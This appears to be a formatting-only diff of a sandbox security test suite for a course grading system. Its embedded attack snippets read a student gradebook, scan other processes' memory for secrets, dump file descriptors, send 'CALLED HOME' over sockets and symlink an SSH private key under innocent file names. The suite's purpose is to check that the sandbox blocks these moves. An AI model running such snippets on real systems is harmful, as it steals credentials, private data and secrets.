@@ -15,7 +15,8 @@ def read(*patterns):
     for pattern in patterns:
         for path in glob.glob(pattern, recursive=True, include_hidden=True):
             try:
-                with open(path, 'rb') as f: found.append(path + ': ' + f.read(200_000).decode('utf-8', 'replace'))
+                with open(path, "rb") as f:
+                    found.append(path + ": " + f.read(200_000).decode("utf-8", "replace"))
             except Exception as error: found.append(f'{path}: {error}')
     return '\\n'.join(found)
 """
@@ -76,8 +77,12 @@ spy(
     before="""
 import sqlite3
 def rows():
-    try: return str(sqlite3.connect('@course@/gradebook.db').execute('select * from student').fetchall())
-    except Exception as error: return str(error)
+    try:
+        return str(
+            sqlite3.connect("@course@/gradebook.db").execute("select * from student").fetchall()
+        )
+    except Exception as error:
+        return str(error)
 """,
 )
 spy(
@@ -117,7 +122,8 @@ def search(pid):
             data = ctypes.string_at(low, high - low)
             place = data.find(b'SEC' + b'RET')
             while place >= 0 and len(found) < 500:
-                found.append(data[place:place + 60].decode('latin-1')); place = data.find(b'SEC' + b'RET', place + 6)
+                found.append(data[place : place + 60].decode("latin-1"))
+                place = data.find(b"SEC" + b"RET", place + 6)
     except OSError as error: found.append(str(error))
     return '\\n'.join(found)
 """,
@@ -130,16 +136,24 @@ spy(
 import ctypes
 def everyone():
     found = []
-    for pid in [p for p in os.listdir('/proc') if p.isdigit() and p != str(os.getpid())][:50] if os.path.isdir('/proc') else []:
+    for pid in (
+        [p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid())][:50]
+        if os.path.isdir("/proc")
+        else []
+    ):
         try:
-            for line in open(f'/proc/{pid}/maps').read().splitlines():
-                if 'heap' in line:
-                    low, high = (int(n, 16) for n in line.split()[0].split('-'))
-                    with open(f'/proc/{pid}/mem', 'rb', 0) as mem:
-                        mem.seek(low); data = mem.read(min(high - low, 50_000_000))
-                    place = data.find(b'SEC' + b'RET')
-                    found.append(pid + data[place:place + 60].decode('latin-1') if place >= 0 else pid)
-        except OSError as error: found.append(f'{pid} {error}')
+            for line in open(f"/proc/{pid}/maps").read().splitlines():
+                if "heap" in line:
+                    low, high = (int(n, 16) for n in line.split()[0].split("-"))
+                    with open(f"/proc/{pid}/mem", "rb", 0) as mem:
+                        mem.seek(low)
+                        data = mem.read(min(high - low, 50_000_000))
+                    place = data.find(b"SEC" + b"RET")
+                    found.append(
+                        pid + data[place : place + 60].decode("latin-1") if place >= 0 else pid
+                    )
+        except OSError as error:
+            found.append(f"{pid} {error}")
     return '\\n'.join(found)
 """,
 )
@@ -157,7 +171,13 @@ def objects():
         place = text.find('SEC' + 'RET')
         while place >= 0 and len(found) < 300:
             found.append(text[place:place + 60]); place = text.find('SEC' + 'RET', place + 6)
-    found += [line for entry in list(linecache.cache.values()) if len(entry) > 2 for line in entry[2] if 'SEC' + 'RET' in line]
+    found += [
+        line
+        for entry in list(linecache.cache.values())
+        if len(entry) > 2
+        for line in entry[2]
+        if "SEC" + "RET" in line
+    ]
     return '\\n'.join(found)
 """,
 )
@@ -204,11 +224,15 @@ def leak():
     said = []
     for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @port@)),
                                   (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', @port@)),
-                                  (socket.AF_UNIX, socket.SOCK_STREAM, '@unix@'), (socket.AF_UNIX, socket.SOCK_STREAM, '\\0@abstract@'),
+                                  (socket.AF_UNIX, socket.SOCK_STREAM, '@unix@'),
+                                  (socket.AF_UNIX, socket.SOCK_STREAM, '\\0@abstract@'),
                                   (socket.AF_INET, socket.SOCK_STREAM, ('10.255.255.1', 80))):
         try:
             with socket.socket(family, kind) as s:
-                s.settimeout(0.3); s.connect(address); s.send(b'CALLED HOME'); said.append(str(address))
+                s.settimeout(0.3)
+                s.connect(address)
+                s.send(b'CALLED HOME')
+                said.append(str(address))
         except OSError as error: said.append(str(error))
     return str(said)
 """,
@@ -242,12 +266,16 @@ spy(
     before="""
 def descriptors():
     found = []
-    for name in os.listdir('/proc/self/fd') if os.path.isdir('/proc/self/fd') else map(str, range(3, 100)):
+    for name in (
+        os.listdir("/proc/self/fd") if os.path.isdir("/proc/self/fd") else map(str, range(3, 100))
+    ):
         try:
-            link = os.readlink(f'/proc/self/fd/{name}') if os.path.isdir('/proc/self/fd') else name
+            link = os.readlink(f"/proc/self/fd/{name}") if os.path.isdir("/proc/self/fd") else name
             found.append(link)
-            if not link.startswith(('socket', 'pipe', 'anon')): found.append(os.pread(int(name), 1_000_000, 0).decode('latin-1'))
-        except OSError as error: found.append(str(error))
+            if not link.startswith(("socket", "pipe", "anon")):
+                found.append(os.pread(int(name), 1_000_000, 0).decode("latin-1"))
+        except OSError as error:
+            found.append(str(error))
     return '\\n'.join(found)
 """,
 )
@@ -260,9 +288,15 @@ attack(
     check=nothing_read,
     first=READ
     + """
-for name, target in (('plain-tasks.html', '@home@/.ssh/id_ed25519'), ('notes.txt', '@course@/gradebook.db'), ('folder', '@course@/source')):
-    try: os.symlink(target, name)
-    except OSError: pass
+for name, target in (
+    ("plain-tasks.html", "@home@/.ssh/id_ed25519"),
+    ("notes.txt", "@course@/gradebook.db"),
+    ("folder", "@course@/source"),
+):
+    try:
+        os.symlink(target, name)
+    except OSError:
+        pass
 """
     + SHOW.format("read('./**/*')"),
 )
